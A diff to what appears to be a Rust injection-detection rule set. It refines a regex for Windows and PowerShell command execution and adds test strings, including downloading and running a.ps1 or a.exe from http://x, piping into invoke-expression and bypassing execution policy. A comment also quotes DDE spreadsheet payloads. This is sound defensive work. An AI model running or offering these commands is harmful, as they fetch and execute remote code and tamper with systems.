@@ -633,7 +633,7 @@ static RULES: &[Rule] = &[
         Rce,
         5,
         Shell,
-        r"\bfor\s+(?:/[dlrf]\b[^%()]{0,100})?%%?~?(?:[a-z_][a-z0-9_]{0,30}|[-/@\[\]~0-9])?\s+in\s*\(|\b(?:invoke-(?:webrequest|expression|restmethod|wmimethod|command|item)|start-process|new-object\s+(?:system\.)?net\.webclient|downloadstring|downloadfile|set-executionpolicy|get-wmiobject)\b|\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|/)(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|ep)\b|\b(?:certutil|bitsadmin)(?:\.exe)?\s+[-/]|\b(?:rundll32|regsvr32|mshta)(?:\.exe)?\s|(?:^|[;&|`])\s*net(?:\.exe)?\s+(?:user|localgroup|group|share|use)\b(?:\s*$|(?:\s+[^\s;&|/]+){0,4}\s*/(?:add|delete|del|domain|active|grant)\b|\s+/)|\breg(?:\.exe)?\s+(?:query|add|delete|save|export|load)\s+(?:hk(?:lm|cu|cr|u|cc)|hkey_)|(?:^|[;&|`])\s*(?:get-(?:childitem|content|process|service|localuser|acl|itemproperty)|remove-item|set-content|out-file|copy-item)\s+(?:-|[a-z]:|\$|/|\\|~)|\bwmic\s+(?:process|os|useraccount)\b|\biex\s*\(\s*(?:iwr|irm|curl|wget|new-object|invoke-|\[|\$|\()|(?:^|[;&|`])\s*iex\s+\$",
+        r#"\bfor\s+(?:/[dlrf]\b[^%()]{0,100})?%%?~?(?:[a-z_][a-z0-9_]{0,30}|[-/@\[\]~0-9])?\s+in\s*\(|\b(?:invoke-(?:webrequest|expression|restmethod|wmimethod|command|item)|start-process|set-executionpolicy|get-wmiobject)(?:\s+(?:[-$'"({@\\]|[a-z]+://|[a-z]:\\|bypass\b|unrestricted\b|[\w.-]+\.(?:exe|ps1|bat|cmd)\b)|\s*[({])|\|\s*invoke-expression\b|\bnew-object\s+(?:system\.)?net\.webclient\b|\.download(?:string|file)\s*\(|\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|/)(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|ep)\b|\b(?:certutil|bitsadmin)(?:\.exe)?\s+[-/]|\b(?:rundll32|regsvr32|mshta)(?:\.exe)?\s|(?:^|[;&|`])\s*net(?:\.exe)?\s+(?:user|localgroup|group|share|use)\b(?:\s*$|(?:\s+[^\s;&|/]+){0,4}\s*/(?:add|delete|del|domain|active|grant)\b|\s+/)|\breg(?:\.exe)?\s+(?:query|add|delete|save|export|load)\s+(?:hk(?:lm|cu|cr|u|cc)|hkey_)|(?:^|[;&|`])\s*(?:get-(?:childitem|content|process|service|localuser|acl|itemproperty)|remove-item|set-content|out-file|copy-item)\s+(?:-|[a-z]:|\$|/|\\|~)|\bwmic\s+(?:process|os|useraccount)\b|\biex\s*\(\s*(?:iwr|irm|curl|wget|new-object|invoke-|\[|\$|\()|(?:^|[;&|`])\s*iex\s+\$"#,
     ),
     // A spreadsheet formula that runs a program through DDE when the app's CSV export is
     // opened: `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"!A0")`.
@@ -2022,11 +2022,21 @@ mod tests {
                 "& reg query hklm\\software",
                 "; get-childitem c:\\",
                 "| get-content /etc/passwd",
+                "invoke-webrequest http://x/a.ps1 -outfile a.ps1",
+                "invoke-expression -command file.ps1",
+                "$c | invoke-expression",
+                "(new-object net.webclient).downloadfile('http://x/a.exe', 'a.exe')",
+                "start-process calc.exe",
+                "set-executionpolicy bypass -scope process",
             ],
             &[
                 "gross & net user revenue grew",
                 "the registry: reg query is read-only",
                 "run get-childitem to list files",
+                // PowerShell named in prose.
+                "how does downloadstring work in powershell?",
+                "use invoke-expression carefully, it runs any string",
+                "start-process and invoke-webrequest are cmdlets",
             ],
         );
         assert_finds(
